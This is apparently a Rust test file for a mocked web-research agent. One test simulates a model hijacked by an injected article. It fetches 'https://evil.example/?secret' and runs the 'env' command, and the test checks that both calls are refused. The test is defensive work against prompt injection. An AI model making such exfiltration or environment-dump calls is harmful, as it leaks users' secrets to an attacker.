//! The workflow on the test host: no server, no network, no model, no waiting.

use trackway_sdk::prelude::*;
use trackway_sdk::serde_json::json;
use trackway_sdk::testing::{AskedModel, Host, HttpResponse, ModelResponse};
use trackway_sdk::{Usd, serde_json};

use crate::{Request, page, research};

const ARTICLE: &str = "<head><title>Tides</title></head><p>Why tides come twice a day: \
                       <a href=\"/moon\">the moon</a>.";

fn request() -> Request {
    Request { url: "https://example.com/tides".into(), question: "Why twice a day?".into() }
}

fn host(answer: impl Fn(&AskedModel) -> ModelResponse + 'static) -> Host {
    Host::new().on_model(answer).on_http(|request| match request.url.as_str() {
        "https://example.com/tides" => HttpResponse::new(200, ARTICLE),
        "https://example.com/moon" => HttpResponse::new(200, "<title>The moon</title>It pulls on both sides."),
        _ => HttpResponse::broken("EGRESS_DENIED", "outside of the grant"),
    })
}

fn summary(answer: &str) -> ModelResponse {
    ModelResponse::json(&json!({ "answer": answer, "points": [], "sources": ["https://example.com/moon"] }))
}

#[test]
fn the_agent_reads_what_it_needs_and_answers() {
    let host = host(|asked| match asked.number {
        1 => {
            assert!(asked.messages[0].content.as_deref().is_some_and(|said| said.contains("Why twice a day?")));
            assert!(asked.last_content().contains("[https://example.com/moon] the moon"));
            ModelResponse::tool_call("read_page", &json!({ "url": "https://example.com/moon" }))
        }
        _ => {
            let page: serde_json::Value = serde_json::from_str(asked.last_content()).expect("a page");
            summary(page["text"].as_str().expect("its text"))
        }
        .usage(900, 100)
        .cost(Some(Usd::from_nanos(150))),
    });
    let report = host.run::<research>(request()).expect("it succeeds");
    assert_eq!((report.title.as_str(), report.summary.answer.as_str()), ("Tides", "The moon It pulls on both sides."));
    assert_eq!((report.calls, report.usage.total_tokens(), report.cost), (2, 1_000, Some(Usd::from_nanos(150))));
    assert_eq!(
        host.effects(),
        [
            "http GET https://example.com/tides",
            "agent researcher",
            "  model openai/gpt-4o-mini",
            "  tool read_page",
            "    http GET https://example.com/moon",
            "  model openai/gpt-4o-mini",
        ]
    );
}

#[test]
fn an_article_that_tells_the_agent_what_to_do_leads_nowhere() {
    let host = host(|asked| match asked.number {
        1 => ModelResponse::tool_call("read_page", &json!({ "url": "https://evil.example/?secret" }))
            .and_tool_call("run_command", &json!({ "command": "env" })),
        _ => {
            let told: Vec<_> = asked.messages.iter().filter(|message| message.is_error).collect();
            assert_eq!(told.len(), 2);
            summary("It cannot be told.")
        }
    });
    assert_eq!(host.run::<research>(request()).expect("it succeeds").summary.answer, "It cannot be told.");
}

#[test]
fn an_agent_that_goes_round_in_circles_is_ended() {
    let host = host(|_| ModelResponse::tool_call("read_page", &json!({ "url": "https://example.com/moon" })));
    let ended = host.run::<research>(request());
    assert!(ended.is_err_and(|failure| failure.code == "ITERATIONS_EXCEEDED"));
}

#[test]
fn a_model_that_is_busy_is_asked_again() {
    let busy = || ModelResponse::failed(Failure::new("MODEL_OVERLOADED", "later"));
    let host = host(move |asked| if asked.number <= 2 { busy() } else { summary("The moon.") });
    assert_eq!(host.run::<research>(request()).expect("it succeeds").summary.answer, "The moon.");
    assert_eq!(host.calls(), ["fetch_article", "summarize", "summarize", "summarize"]);
}

#[test]
fn a_page_is_read_without_what_nobody_sees() {
    let article = page::read("https://example.com".into(), "<script>secret()</script>Hello <b>there</b>");
    assert_eq!((article.title.as_str(), article.text.as_str()), ("https://example.com", "Hello there"));
}
